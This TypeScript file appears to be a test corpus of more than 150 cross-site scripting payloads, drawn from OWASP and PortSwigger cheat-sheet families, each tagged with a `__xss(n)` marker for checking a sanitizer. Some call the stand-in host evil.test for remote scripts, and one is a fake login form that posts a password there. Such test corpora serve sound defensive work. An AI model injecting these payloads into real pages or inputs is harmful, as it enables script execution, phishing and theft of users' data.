/**
 * What an attacker writes where a merchant or a person may write, after the families of OWASP's and PortSwigger's
 * cheat sheets. `RUN` stands for the script that tells on itself.
 */
const tagsAndHandlers = String.raw`
<script>RUN</script>
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>
<ScRiPt>RUN</sCrIpT>
<script/src="https://evil.test/x.js"></script>
<script type=module>RUN</script>
<script async defer>RUN</script>
<script>RUN//
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script
>RUN</script
>
<script src=data:text/javascript,RUN></script>
<script src=//evil.test/x.js>
<script>/*<!--*/RUN/*-->*/</script>
<img src=x onerror=RUN>
<img src="x" onerror="RUN">
<img src='x' onerror='RUN'>
<IMG SRC=x ONERROR=RUN>
<img/src/onerror=RUN>
<img src=x:alert onerror=RUN//
<img """><script>RUN</script>">
<img src=/ onload=RUN onerror=RUN>
<img srcset="x 1x" onerror=RUN>
<img src=x onerror="eval(atob('X194c3MoKQ=='))">
<img src=x onerror=&#82;UN>
<img src=x oneonerrorrror=RUN>
<img src=x onerror=RUN style="position:fixed;inset:0">
<image src=x onerror=RUN>
<body onload=RUN>
<body background="javascript:RUN">
<body onpageshow=RUN>
<body onhashchange=RUN>
<html onmousemove=RUN>
<div onmouseover=RUN>hover</div>
<div onpointerrawupdate=RUN>pointer</div>
<div style="width:expression(RUN)">
<div onfocusin=RUN tabindex=1 autofocus>focus</div>
<p onclick=RUN>click</p>
<b onbeforescriptexecute=RUN>b</b>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<input onblur=RUN autofocus><input autofocus>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<keygen autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<button formaction=javascript:RUN form=f>x</button><form id=f>
<form action=javascript:RUN><input type=submit>
<form action=https://evil.test/><input name=password autofocus><button>Log in</button></form>
<isindex type=image src=1 onerror=RUN>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video poster=javascript:RUN></video>
<audio src=x onerror=RUN></audio>
<audio autoplay onloadstart=RUN src=x></audio>
<details open ontoggle=RUN>x</details>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<object type=text/x-scriptlet data=https://evil.test/></object>
<embed src="javascript:RUN">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoKT4=">
<applet code=x archive=https://evil.test/x.jar></applet>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="https://evil.test/"></iframe>
<iframe onload=RUN></iframe>
<frameset onload=RUN><frame src="javascript:RUN"></frameset>
<bgsound src="javascript:RUN">
<layer src="https://evil.test/"></layer>
<xss id=x tabindex=1 onfocus=RUN></xss>
<xss style="animation-name:spin;animation-duration:1s" onanimationstart=RUN>
<x contenteditable onbeforeinput=RUN>type</x>
<portal src=https://evil.test/></portal>
<base href="https://evil.test/">
<base href="javascript:/a/-RUN///////">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-
<meta http-equiv="Set-Cookie" content="a=b">
<link rel=stylesheet href=https://evil.test/x.css>
<link rel=import href="data:text/html,<script>RUN</script>">
<link rel=prefetch href=https://evil.test/prefetched>
<link rel=stylesheet href=data:text/css,*{color:red}>
<template><script>RUN</script></template>
<slot onslotchange=RUN></slot>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><img title="</noframes><img src=x onerror=RUN>"></noframes>`;

const drawings = String.raw`
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x></svg>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>click</text></a></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text x=20 y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=RUN /></svg>#x"/></svg>
<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><script>RUN</script></desc></svg>
<svg><image href=x onerror=RUN></svg>
<svg><discard onbegin=RUN></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><metadata/></svg>
<math href="javascript:RUN">click</math>
<math><maction actiontype="statusline#https://evil.test/" xlink:href="javascript:RUN">click</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><mi xlink:href="data:text/html,<script>RUN</script>">click</mi></math>`;

const mutations = String.raw`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><p><style><g title="</style><img src=x onerror=RUN>">
<noscript><style></noscript><img src=x onerror=RUN></style>
<listing>&lt;img onerror="RUN" src=x&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<plaintext><img src=x onerror=RUN>
<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>
<title><img title="</title><img src=x onerror=RUN>"></title>
<style><style/><img src=x onerror=RUN>
<style><!--</style><img src=x onerror=RUN>-->
<table><td><form><script>RUN</script></form></td></table>
<table background="javascript:RUN"><tr><td>x
<select><style></select><img src=x onerror=RUN></style>
<option><style></option></select><img src=x onerror=RUN></style>
<a href="x"><a href="javascript:RUN">nested</a></a>
<!--<img src="--><img src=x onerror=RUN>//">
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><img src=x onerror=RUN>
<!DOCTYPE x [<!ENTITY y "RUN">]><x>&y;</x>
<comment><img src="</comment><img src=x onerror=RUN>">`;

const breakouts = String.raw`
"><script>RUN</script>
'><script>RUN</script>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
" onmouseover="RUN
' onmouseover='RUN
" autofocus onfocus=RUN x="
' autofocus onfocus=RUN x='
x onerror=RUN
--></style></script><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</script ><img src=x onerror=RUN>
</SCRIPT/x><svg onload=RUN>
<!--<script>
]]></script><script>RUN</script>
";RUN;//
';RUN;//
\";RUN;//
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN\x3c/script\x3e
{{constructor.constructor('RUN')()}}
{{7*7}}[[7*7]]
\${RUN}
\`-RUN-\`
#{RUN} <%= RUN %>
{count, plural, other {<b>RUN</b>}}
%3Cscript%3ERUN%3C/script%3E
&lt;script&gt;RUN&lt;/script&gt;
&#60;img src=x onerror=RUN&#62;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
+ADw-script+AD4-RUN+ADw-/script+AD4-
red;}</style><script>RUN</script>
#fff;background:url(https://evil.test/x.png)
red}*{background:url(javascript:RUN)}
url(javascript:RUN)
expression(RUN)
@import 'https://evil.test/x.css';
<style>@import 'https://evil.test/x.css';</style>
<style>*{background:url("https://evil.test/x.png")}</style>
<p style="background-image:url(javascript:RUN)">
<p style="behavior:url(#default#time2)" onbegin=RUN>
<p style="-moz-binding:url(https://evil.test/x.xml)">
__proto__
constructor.prototype.polluted
toString`;

const links = String.raw`
javascript:RUN
JaVaScRiPt:RUN
javascript://%0aRUN
javascript:/*--></title></style></textarea></script><svg/onload=RUN>
javascript&colon;RUN
&#106;avascript:RUN
&#x6A;avascript:RUN
javascript&#58;RUN
vbscript:RUN
livescript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+
data:image/svg+xml,<svg onload=RUN>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoKT4=
data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></x>
blob:https://evil.test/1
filesystem:https://evil.test/x
view-source:javascript:RUN
feed:javascript:RUN
jar:https://evil.test/x.jar!/x
file:///etc/passwd
intent://evil.test/#Intent;scheme=https;end
//evil.test/x.png
\\evil.test\x.png
/\evil.test/x.png
/.//evil.test/x.png
///evil.test/x.png
https:evil.test/x.png
http://user:pass@evil.test/x.png
/pages/other/newsDetail?id="><script>RUN</script>
?javascript:RUN
#"><img src=x onerror=RUN>
<a href="javascript:RUN">click</a>
<a href=" &#14; javascript:RUN">click</a>
<a href="java&Tab;script&NewLine;:RUN">click</a>
<a href=javas&#99;ript:RUN>click</a>
<a href="data:text/html,<script>RUN</script>">click</a>
<a href="//evil.test/">click</a>
<a href="x" ping="https://evil.test/ping" download onclick=RUN>click</a>
<a target=_top href="/\evil.test">click</a>
<area shape=default href=javascript:RUN>
<img src="javascript:RUN">
<img src="data:image/svg+xml,<svg onload=RUN>">
<img dynsrc="javascript:RUN" lowsrc="javascript:RUN">
<img src="//evil.test/x.png">
<img usemap=#m><map name=m><area href=javascript:RUN></map>`;

/** What cannot be written on a line of its own. */
const invisible = [
  'java\tscript:RUN',
  'java\nscript:RUN',
  'java\rscript:RUN',
  '\u0001javascript:RUN',
  ' \u00a0javascript:RUN',
  '\ufeffjavascript:RUN',
  'java\u0000script:RUN',
  '<scr\u0000ipt>RUN</scr\u0000ipt>',
  '<img\u000csrc=x\u000conerror=RUN>',
  '<img src=x onerror\u000b=RUN>',
  '<img src=x\tonerror\n=\rRUN>',
  '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
  '\u2028</script><script>RUN</script>\u2029',
  '\u202e</tpircs>RUN<tpircs>',
  '\u200b<\u200bscript>RUN</script>',
  '\ud800<script>RUN</script>',
  '<a href="\u2028javascript:RUN">click</a>',
  '<ſcript>RUN</ſcript>',
  '<ımg src=x onerror=RUN>',
];

/** At least 150 of them; each tells which one it was: `__xss(17)`. */
export const vectors: readonly string[] = [
  ...[tagsAndHandlers, drawings, mutations, breakouts, links].flatMap((family) => family.trim().split(/\n(?![>])/)),
  ...invisible,
].map((vector, index) => vector.replaceAll('RUN', `__xss(${index})`));
